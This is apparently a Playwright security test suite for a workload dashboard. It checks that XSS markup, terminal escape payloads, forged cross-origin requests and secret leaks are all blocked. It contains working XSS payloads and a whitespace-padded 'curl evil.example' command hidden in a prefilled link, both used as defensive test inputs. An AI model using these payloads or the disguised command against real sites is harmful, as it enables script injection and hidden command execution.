// What people and programs write is shown and never run; a workload's page reaches nothing of the dashboard.
import { type Dirent, readdirSync, readFileSync } from 'node:fs'
import path from 'node:path'
import { type BrowserContext, expect, type Page, test } from '@playwright/test'
import { ask, order } from './support/api'
import { Berth } from './support/berth'
import { PERSON, signUp, terminalRows, watchForFaults } from './support/pages'

test.describe.configure({ mode: 'serial', timeout: 180_000 })

const RUNS = 'window.top.hacked=1'
/** Each would run in a page that takes text for markup. */
const MARKUP = [
  `<img src=x onerror=${RUNS}>`,
  `"><svg onload=${RUNS}>`,
  `</script><script>${RUNS}</script>`,
  `<a href=javascript:${RUNS}>x</a>`,
]
const OUTPUT = [...MARKUP, `\u001b]0;${MARKUP[0]}\u0007`, `\u001b]8;;javascript:${RUNS}\u001b\\click\u001b]8;;\u001b\\`]
const PORT = 8123

let berth: Berth
let context: BrowserContext
let page: Page
let faults: string[]
let secret: string

test.beforeAll(async ({ browser }) => {
  berth = await Berth.create()
  const link = await berth.start()
  secret = link.slice(link.indexOf('#') + 1)
  context = await browser.newContext({ userAgent: `Mozilla/5.0 ${MARKUP[1]}` })
  page = await context.newPage()
  faults = watchForFaults(page)
  await signUp(page, link, { ...PERSON, name: MARKUP[0] ?? '', place: MARKUP[1] ?? '' })
})
test.afterAll(async () => {
  await context?.close()
  await berth?.destroy()
})
test.afterEach(() => expect(faults).toEqual([]))

const rows = async () => (await ask<{ rows: { label: string }[] }>(page, 'workloads.list', {})).rows

test('V10: a link creates nothing by itself, and shows all that it asks for', async () => {
  const command = ['/bin/sh', '-c', `echo harmless${' '.repeat(200)}; curl evil.example`]
  const spec = {
    runtime: 'shell',
    cpus: 1,
    memoryBytes: 2 ** 30,
    diskBytes: 0,
    command,
    mounts: [{ path: '/home/mara/keys', mode: 'rw' }],
  }
  const query = new URLSearchParams({ kind: 'session', name: 'invited', spec: JSON.stringify(spec) })
  await page.goto(`${berth.origin}/new?${query}`)
  await expect(page.getByText('Filled in from another request')).toBeVisible()
  await expect(page.getByLabel('Name')).toHaveValue('invited-2')
  await expect(page.getByText(/echo harmless.*curl evil\.example/)).toBeVisible()
  await expect(page.getByLabel('Folder 1', { exact: true })).toHaveValue('/home/mara/keys')
  expect((await rows()).length).toBe(0)
  for (const path of ['/new?kind=session', '/new?kind=notebook&create=1', '/api/trpc/workloads.create?input=%7B%7D', '/open/x'])
    await page.request.get(berth.origin + path, { headers: { host: new URL(berth.origin).host } }).catch(() => null)
  await page.goto(`${berth.origin}/workloads`)
  expect((await rows()).length).toBe(0)
})

test('G13: nothing that a person or a program wrote runs on any page', async () => {
  const blank = await context.newPage()
  await blank.setContent(MARKUP[0] ?? '')
  await expect.poll(() => blank.evaluate(() => 'hacked' in window)).toBe(true)
  await blank.close()
  const program = `import http.server,sys;print(sys.argv[1],flush=True);http.server.test(http.server.SimpleHTTPRequestHandler,port=${PORT},bind="127.0.0.1")`
  const command = ['/usr/bin/python3', '-c', program, OUTPUT.join(' ')]
  const spec = { runtime: 'shell', cpus: 1, memoryBytes: 2 ** 30, diskBytes: 0, command }
  const { id } = await order<{ id: string }>(page, 'workloads.create', { kind: 'session', name: 'hostile', spec })
  await order(page, 'tokens.create', { name: MARKUP[3], scopes: ['read'], days: 1, password: PERSON.password })
  const tabs = ['overview', 'timeline', 'logs', 'sharing', 'settings', 'json'].map((tab) => `/workloads/${id}?tab=${tab}`)
  for (const at of [`/workloads/${id}/terminal`, ...tabs, '/', '/workloads', '/machines', '/people', '/new?kind=session']) {
    await page.goto(berth.origin + at)
    await expect(page.getByRole('heading', { level: 1 }).first()).toBeVisible()
    if (at.endsWith('/terminal')) await expect(terminalRows(page)).toContainText('<img src=x onerror')
    if (at.endsWith('=logs')) await expect(page.getByText('<img src=x onerror').first()).toBeVisible()
    if (at === '/people') await expect(page.getByText('<a href=javascript').first()).toBeVisible()
    expect([at, await page.evaluate(() => 'hacked' in window)]).toEqual([at, false])
  }
})

test('G1, G2: a page in a workload reads, sends, frames and opens nothing of the dashboard', async () => {
  const before = await rows()
  const inside = await context.newPage()
  await inside.goto(`${berth.origin}/open/${before[0]?.label}?port=${PORT}`)
  // The hand-over goes through two pages of ours before the workload's own.
  await expect(inside.getByRole('heading', { name: /Directory listing/ })).toBeVisible()
  expect(inside.url()).toMatch(new RegExp(`^http://w-[a-z2-7]{26}--${PORT}\\.localhost:`))
  const reached = await inside.evaluate(attack, {
    dashboard: berth.origin,
    data: `ws://io.berth.localhost:${berth.port + 1}/terminal`,
  })
  expect(reached).toEqual({
    ...{ read: 'refused', create: 'refused', blindCreate: 'refused' },
    ...{ terminal: 'refused', dashboardSocket: 'refused', popup: 'cut off' },
  })
  expect(
    inside
      .frames()
      .map((frame) => frame.url())
      .filter((url) => url.startsWith(berth.origin)),
  ).toEqual([])
  expect((await rows()).length).toBe(before.length)
  await inside.close()
})

test('K1, K3, K10: no secret of a person is in an argument, a variable, a log or a file', async () => {
  const { token } = await order<{ token: string }>(page, 'tokens.create', {
    name: 'laptop',
    scopes: ['read'],
    password: PERSON.password,
  })
  const secrets = [secret, token, PERSON.password]
  expect(secrets.every((text) => text.length > 20)).toBe(true)
  const texts = [...processTexts(), ...fileTexts(berth.home)]
  // What is no secret is found in both: the search sees what it should.
  for (const [kind, plain] of [
    ['environ', berth.home],
    ['berth.db', PERSON.email],
  ] as const)
    expect(texts.some(([where, text]) => where.includes(kind) && text.includes(plain))).toBe(true)
  const found = texts.flatMap(([where, text]) =>
    secrets.filter((one) => text.includes(one)).map((one) => `${where}: ${one.slice(0, 12)}`),
  )
  expect(found).toEqual([])
})

/** Runs in the page of a workload: what of the dashboard can it reach? */
async function attack({ dashboard, data }: { dashboard: string; data: string }) {
  const create = `${dashboard}/api/trpc/workloads.create`
  const spec = { runtime: 'shell', cpus: 1, memoryBytes: 2 ** 30, diskBytes: 0 }
  const body = JSON.stringify({ json: { kind: 'session', name: 'forged', spec } })
  const within = <T>(work: Promise<T>, late: T) =>
    Promise.race([work, new Promise<T>((resolve) => setTimeout(() => resolve(late), 10_000))])
  const ask = (url: string, init: RequestInit) =>
    within(
      fetch(url, { credentials: 'include', ...init }).then(
        ({ type }) => (type === 'opaque' ? 'sent blindly' : 'answered'),
        () => 'refused',
      ),
      'late',
    )
  const dial = (url: string) =>
    new Promise<string>((resolve) => {
      const socket = new WebSocket(url)
      socket.onopen = () => resolve('open')
      socket.onerror = () => resolve('refused')
    })
  const frame = document.createElement('iframe')
  frame.src = `${dashboard}/people`
  const loaded = new Promise<string>((resolve) => frame.addEventListener('load', () => resolve('loaded')))
  document.body.append(frame)
  await within(loaded, 'never')
  const popup = window.open(`${dashboard}/people`)
  const cut = new Promise<string>((resolve) => {
    const timer = setInterval(() => {
      if (popup && !popup.closed) return
      clearInterval(timer)
      resolve('cut off')
    }, 50)
  })
  const headers = { 'content-type': 'application/json' }
  return {
    read: await ask(`${dashboard}/api/trpc/me.get`, {}),
    create: await ask(create, { method: 'POST', headers, body }),
    blindCreate: await ask(create, { method: 'POST', mode: 'no-cors', body }),
    terminal: await within(dial(data), 'late'),
    dashboardSocket: await within(dial(`${dashboard.replace('http', 'ws')}/api/trpc`), 'late'),
    popup: await within(cut, 'joined'),
  }
}

/** Arguments and variables of every process that may be read, but of this one. */
function processTexts(): [string, string][] {
  const own = [process.pid, process.ppid].map(String)
  return readdirSync('/proc')
    .filter((pid) => /^\d+$/.test(pid) && !own.includes(pid))
    .flatMap((pid) => ['cmdline', 'environ'].map((name): [string, string] => [`${pid} ${name}`, read(`/proc/${pid}/${name}`)]))
}

function fileTexts(folder: string): [string, string][] {
  return filesOf(folder).map((file): [string, string] => [path.relative(folder, file), read(file)])
}

function filesOf(folder: string): string[] {
  return entriesOf(folder).flatMap((entry) => {
    const at = path.join(folder, entry.name)
    if (entry.isDirectory()) return filesOf(at)
    return entry.isFile() ? [at] : []
  })
}

function entriesOf(folder: string): Dirent[] {
  try {
    return readdirSync(folder, { withFileTypes: true })
  } catch {
    return [] // a folder that went meanwhile
  }
}

/** Empty when it is gone. */
function read(file: string): string {
  try {
    return readFileSync(file, 'latin1')
  } catch {
    return '' // a process or a file that ended meanwhile
  }
}
